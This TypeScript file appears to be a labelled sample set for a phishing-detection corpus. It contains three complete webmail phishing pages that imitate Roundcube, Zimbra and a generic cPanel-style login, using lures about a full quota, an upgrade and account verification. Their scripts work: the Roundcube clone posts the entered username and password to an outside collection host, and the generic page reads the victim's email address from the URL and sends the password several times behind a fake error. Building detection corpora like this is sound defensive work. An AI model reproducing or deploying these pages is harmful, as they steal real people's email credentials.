import { type Entry } from '../entry.js';
import { baseCss, doc } from '../parts/d-parts.js';

/** Webmail clones: Roundcube quota, OWA session, Zimbra upgrade, generic cPanel-style, domain-branded via the victim's address. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-webmail-roundcube-quota',
  label: 'phishing',
  kind: 'webmail-roundcube',
  url: 'https://mail-storage-notice.quota-mailcenter.net/roundcube/?_task=login&_user=info@kanzlei-brenner.de',
  body: doc({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    css: `body{background:#f4f4f4;font-family:"Roboto","Helvetica Neue",Helvetica,Arial,sans-serif;margin:0}#layout{display:flex;align-items:center;justify-content:center;min-height:100vh}#login-form{width:400px;background:#fff;padding:30px;border-radius:4px;box-shadow:0 0 4px #ccc}#logo{display:block;margin:0 auto 20px;max-height:60px}table{width:100%}td.title{width:30%;font-size:14px}td.input input{width:100%;padding:8px;border:1px solid #d4dbde;border-radius:4px}.mainaction{width:100%;background:#37beff;border:0;color:#fff;padding:10px;margin-top:14px;border-radius:4px;font-size:15px}.quota{background:#ffe8e8;color:#a00;padding:10px;border-radius:4px;font-size:13px;margin-bottom:14px}.bar{height:10px;background:#eee;border-radius:5px;overflow:hidden;margin-top:6px}.bar i{display:block;height:100%;width:99%;background:#e33}#bottomline{text-align:center;font-size:12px;color:#999;margin-top:14px}`,
    body: `<div id="layout"><div id="login-form"><img src="skins/elastic/images/logo.svg" id="logo" alt="Roundcube Webmail">
<div class="quota">Your mailbox has exceeded its storage limit (1.99 GB / 2 GB). Incoming messages are being held. Log in to upgrade your quota and release 14 pending messages.<div class="bar"><i></i></div></div>
<form name="login-form" method="post" action="./?_task=login"><input type="hidden" name="_token" value="pZr3xVmHq0rDn8wX2cY7uF1bLk"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tbody><tr><td class="title"><label for="rcmloginuser">Username</label></td><td class="input"><input name="_user" id="rcmloginuser" required autocomplete="username"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td class="input"><input name="_pass" id="rcmloginpwd" type="password" required autocomplete="current-password"></td></tr></tbody></table>
<button type="submit" class="mainaction" id="rcmloginsubmit">Login</button></form>
<div id="bottomline">Roundcube Webmail · <a href="#">Get support</a></div></div></div>
<script>
(function(){var u=new URLSearchParams(location.search).get('_user');if(u){document.getElementById('rcmloginuser').value=u;var d=u.split('@')[1];if(d){document.title=d+' :: Webmail';var l=document.getElementById('logo');l.src='https://logo.clearbit.com/'+d;l.onerror=function(){l.src='skins/elastic/images/logo.svg'}}}
document.forms['login-form'].addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);f.append('host',location.host);
fetch('https://relay.mx-notify-hub.com/rc/collect.php',{method:'POST',body:f,mode:'no-cors'}).then(function(){alert('Quota upgraded successfully. Your mailbox will be available shortly.');location.href='https://'+(u?u.split('@')[1]:'google.com')});});})();
</script>`,
  }),
},

{
  id: 'd-webmail-zimbra-upgrade',
  label: 'phishing',
  kind: 'webmail-zimbra',
  url: 'https://zimbra-upgrade.webmail-migration-center.com/zimbra/?loginOp=relogin&client=preferred',
  body: doc({
    title: 'Zimbra Web Client Sign In',
    css: `body{background:#0d4f8b linear-gradient(#2572b8,#0d4f8b);font-family:Helvetica,Arial,sans-serif;margin:0}.LoginScreen{width:500px;margin:80px auto;background:#fff;border-radius:6px;padding:30px 40px}.ImgLoginBanner{height:50px;background:url('img/zimbra_logo.svg') no-repeat left/contain}.notice{background:#fffbe6;border:1px solid #f0d060;padding:10px;font-size:13px;margin:12px 0}.zLoginField{width:100%;padding:8px;margin:4px 0 12px;border:1px solid #aaa}.ZLoginButton{background:#0d4f8b;color:#fff;border:0;padding:8px 24px}`,
    body: `<div class="LoginScreen"><div class="ImgLoginBanner" aria-label="Zimbra Collaboration Suite"></div>
<div class="notice"><b>System administrator notice:</b> Our mail server is being upgraded to Zimbra 10.1. All accounts that are not re-validated before 30/11 will be deactivated. Sign in below to migrate your mailbox.</div>
<form method="post" name="loginForm" action="/zimbra/validate.php" accept-charset="UTF-8"><input type="hidden" name="loginOp" value="login"><input type="hidden" name="login_csrf" value="4c2e5d1a-77f3-4ad6-9c0d-88e1a0c6b7f2">
<label for="username">Username:</label><input id="username" class="zLoginField" name="username" type="text" value="" size="40" maxlength="1024" autocapitalize="off" autocorrect="off">
<label for="password">Password:</label><input id="password" autocomplete="off" class="zLoginField" name="password" type="password" value="" size="40" maxlength="1024">
<label><input type="checkbox" id="remember" value="1" name="zrememberme"> Stay signed in</label><br><br>
<label for="client">Version:</label> <select id="client" name="client"><option value="preferred" selected>Default</option><option value="advanced">Advanced (Ajax)</option><option value="standard">Standard (HTML)</option><option value="mobile">Mobile</option></select><br><br>
<input type="submit" class="ZLoginButton" value="Sign In"></form>
<p style="font-size:11px;color:#777">Zimbra :: the leader in open source messaging and collaboration · Copyright © 2005-2026 Synacor, Inc.</p></div>`,
  }),
},

{
  id: 'd-webmail-cpanel-generic-domain',
  label: 'phishing',
  kind: 'webmail-generic',
  url: 'https://secure-webmail-login.verify-mailhost.org/index.html#bWFya2V0aW5nQGhvbHpiYXUtc2NobWlkdC5hdA==',
  body: doc({
    title: 'Webmail Login',
    css: baseCss('#293a4a') + `body{background:#eaedf1}.box{max-width:400px;margin:70px auto;text-align:center}.box img{height:48px;margin-bottom:12px}`,
    body: `<div class="box card"><img id="dlogo" src="webmail.png" alt="">
<h1 id="dname" style="font-size:20px">Webmail</h1>
<p class="muted" id="msg">Verify your account to continue receiving emails.</p>
<form id="wf" style="text-align:left"><div class="form-group"><label>Email Address</label><input id="em" name="email" type="email" readonly></div><div class="form-group"><label>Password</label><input id="pw" name="password" type="password" required></div><button class="btn btn-block" id="sb">Log in</button><p id="er" style="color:#c00;display:none">Invalid password. Please try again.</p></form>
<p class="muted">Copyright © 2026 · All rights reserved.</p></div>
<script>
var h=location.hash.slice(1),e='';try{e=atob(h)}catch(x){e=h}
if(e.indexOf('@')>0){var dom=e.split('@')[1];document.getElementById('em').value=e;document.getElementById('dname').textContent=dom.split('.')[0].toUpperCase()+' Webmail';document.getElementById('dlogo').src='https://www.google.com/s2/favicons?sz=64&domain='+dom;document.title=dom+' - Webmail'}
var n=0;document.getElementById('wf').onsubmit=function(ev){ev.preventDefault();n++;var p=document.getElementById('pw').value;
var x=new XMLHttpRequest();x.open('POST','next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('ai='+encodeURIComponent(e)+'&pr='+encodeURIComponent(p)+'&c='+n);
document.getElementById('pw').value='';if(n<3){document.getElementById('er').style.display='block'}else{window.location.replace('https://'+e.split('@')[1])}};
</script>`,
  }),
},

];
